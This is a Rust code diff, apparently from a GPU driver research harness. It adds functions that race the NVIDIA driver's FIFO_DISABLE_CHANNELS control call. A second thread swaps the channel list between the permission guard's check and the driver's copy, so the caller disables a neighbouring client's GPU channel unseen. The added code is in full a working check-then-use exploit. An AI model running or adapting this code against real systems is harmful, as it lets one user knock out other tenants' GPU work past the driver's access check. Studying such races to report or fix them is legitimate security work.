@@ -339,6 +339,132 @@ fn flip_command(pp: usize, sp: usize, us: u64, ready: &AtomicBool, done: &Atomic
     }
 }
 
+/// What became of `n` racing disables ([`race_disable`]), as far as the caller can tell.
+#[derive(Clone, Debug, Default)]
+pub struct DisableRace {
+    /// Calls made.
+    pub calls: u32,
+    /// Calls refused with `EPERM` (the guard saw the neighbour's client).
+    pub refused: u32,
+    /// Calls the driver answered with a status other than `NV_OK`.
+    pub failed: u32,
+}
+
+/// `n` `FIFO_DISABLE_CHANNELS` disables of the caller's own channel `(client, own)`, issued on
+/// its `subdevice`, raced by a second thread that points the list's one entry at a neighbour's
+/// channel `victim` and back, over and over: the guard, reading the list at the call's entry,
+/// may see the caller's own client while the driver, copying it a few microseconds later,
+/// disables the neighbour's (the caller's own channel is left with the disables that landed on
+/// it). With `wait`, the second thread instead points the list at the neighbour's channel
+/// `wait` into each call (the guard has read it by then; a driver answering late has not) and
+/// back once the call returned: every call then disables the neighbour's channel unseen.
+pub fn race_disable(
+    ctl: &Ctl,
+    (client, subdevice, own): (Handle, Handle, Handle),
+    victim: (Handle, Handle),
+    n: u32,
+    wait: Option<Duration>,
+) -> DisableRace {
+    let mut out = DisableRace::default();
+    let mut params = rm::sched::DisableChannelsParams {
+        disable: 1,
+        num_channels: 1,
+        ..Default::default()
+    };
+    params.client_list[0] = client;
+    params.channel_list[0] = own;
+    let mut p = rm::Nvos54 {
+        h_client: client,
+        h_object: subdevice,
+        cmd: rm::sched::DISABLE_CHANNELS,
+        flags: 0,
+        params: addr_of_mut!(params) as u64,
+        params_size: size_of::<rm::sched::DisableChannelsParams>() as u32,
+        status: 0,
+    };
+    let (pp, sp) = (addr_of_mut!(p) as usize, addr_of_mut!(params) as usize);
+    let cmd = nv::nv_iowr(nv::NV_ESC_RM_CONTROL, nv::NVOS54_SIZE);
+    let call = |out: &mut DisableRace| {
+        // SAFETY: `p` and `params` live across the calls and are of the sizes the driver
+        // reads and writes; the racer's writes to them are the point.
+        unsafe { addr_of_mut!((*(pp as *mut rm::Nvos54)).status).write_volatile(0) };
+        let (ret, errno) = unsafe { ctl.raw(cmd, pp as *mut u8) };
+        out.calls += 1;
+        // SAFETY: as above.
+        let st = unsafe { addr_of!((*(pp as *const rm::Nvos54)).status).read_volatile() };
+        if ret != 0 && errno == libc::EPERM {
+            out.refused += 1;
+        } else if st != status::NV_OK {
+            out.failed += 1;
+        }
+    };
+    let (ready, done) = (AtomicBool::new(false), AtomicBool::new(false));
+    let Some(wait) = wait else {
+        std::thread::scope(|s| {
+            s.spawn(|| flip_list(sp, (client, own), victim, &ready, &done));
+            while !ready.load(Ordering::Acquire) {
+                std::hint::spin_loop();
+            }
+            for _ in 0..n {
+                call(&mut out);
+            }
+            done.store(true, Ordering::Release);
+        });
+        return out;
+    };
+    for _ in 0..n {
+        let (entered, returned) = (AtomicBool::new(false), AtomicBool::new(false));
+        std::thread::scope(|s| {
+            s.spawn(|| {
+                while !entered.load(Ordering::Acquire) {
+                    std::hint::spin_loop();
+                }
+                std::thread::sleep(wait);
+                set_entry(sp, victim);
+                while !returned.load(Ordering::Acquire) {
+                    std::hint::spin_loop();
+                }
+                set_entry(sp, (client, own));
+            });
+            entered.store(true, Ordering::Release);
+            call(&mut out);
+            returned.store(true, Ordering::Release);
+        });
+    }
+    out
+}
+
+/// Points the disable list's one entry at `(client, channel)`.
+fn set_entry(sp: usize, (client, channel): (Handle, Handle)) {
+    let params = sp as *mut rm::sched::DisableChannelsParams;
+    // SAFETY: the struct outlives every thread that writes it; racing the kernel's and the
+    // driver's reads is the point (volatile, word-sized).
+    unsafe {
+        addr_of_mut!((*params).client_list[0]).write_volatile(client);
+        addr_of_mut!((*params).channel_list[0]).write_volatile(channel);
+    }
+}
+
+/// The second thread of [`race_disable`]: the list's one entry at the caller's own channel,
+/// then at the victim's, alternately, until the calls are done.
+fn flip_list(
+    sp: usize,
+    own: (Handle, Handle),
+    victim: (Handle, Handle),
+    ready: &AtomicBool,
+    done: &AtomicBool,
+) {
+    ready.store(true, Ordering::Release);
+    let mut theirs = false;
+    while !done.load(Ordering::Acquire) {
+        theirs = !theirs;
+        set_entry(sp, if theirs { victim } else { own });
+        for _ in 0..64 {
+            std::hint::spin_loop();
+        }
+    }
+}
+
 /// `n` video-memory allocations of `size` bytes (NVOS21) whose params lie on a page the caller
 /// has mapped but never touched: a fresh shared mapping of a memfd that holds them. The
 /// driver's `copy_from_user` faults the page in and reads them; a probe's read of user memory
